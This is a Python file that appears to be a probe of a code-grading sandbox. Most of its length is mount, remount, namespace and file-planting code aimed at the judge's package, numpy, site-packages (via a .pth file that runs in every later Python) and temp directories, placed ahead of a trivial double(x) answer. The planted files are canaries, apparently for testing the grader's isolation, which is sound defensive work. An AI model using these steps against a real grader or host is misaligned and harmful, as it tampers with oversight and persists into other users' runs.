"""Change the host for everyone graded after me: unmount what hides the bank, remount
/ writable, drop files into the judge's package and numpy's, a .pth into site-packages
(one runs in every later Python), and files into /tmp, /var/tmp, /dev/shm and HOME.
(Each written file is a harmless canary named jj_trust_canary, so that a broken
defence shows without hurting the machine.)  Answer right."""
import ctypes
import os
import sys

done = []
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
CANARY = "jj_trust_canary"


def _try(what, fn):
    try:
        if fn() is not False:
            done.append(what)
    except Exception:
        pass


def _drop(folder, name=CANARY, text="# jj_trust_canary\n"):
    with open(os.path.join(folder, name), "x") as f:
        f.write(text)


with open("/proc/self/mounts") as f:
    tmpfs = [line.split()[1] for line in f if line.split()[2] == "tmpfs"]
for target in tmpfs + ["/"]:
    _try(f"umount {target}", lambda: libc.umount2(target.encode(), 2) == 0)
_try("remount / rw", lambda: libc.mount(None, b"/", None, MS_REMOUNT, None) == 0)
_try("bind / over /tmp", lambda: libc.mount(b"/", b"/tmp", None, MS_BIND, None) == 0)
_try("unshare user ns", lambda: libc.unshare(0x10000000) == 0)
worker_dir = sys.argv[1] if len(sys.argv) > 1 else ""
_try("judge package", lambda: _drop(os.path.dirname(worker_dir.rstrip("/"))))
import numpy  # noqa: E402  (now, to find site-packages)

site = os.path.dirname(os.path.dirname(numpy.__file__))
_try("site .pth", lambda: _drop(site, CANARY + ".pth", "import os\n"))
_try("numpy package", lambda: _drop(os.path.dirname(numpy.__file__)))
for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    _try(f"left {folder}", lambda: _drop(folder))
print("got:", " | ".join(done))


def double(x):
    return x * 2
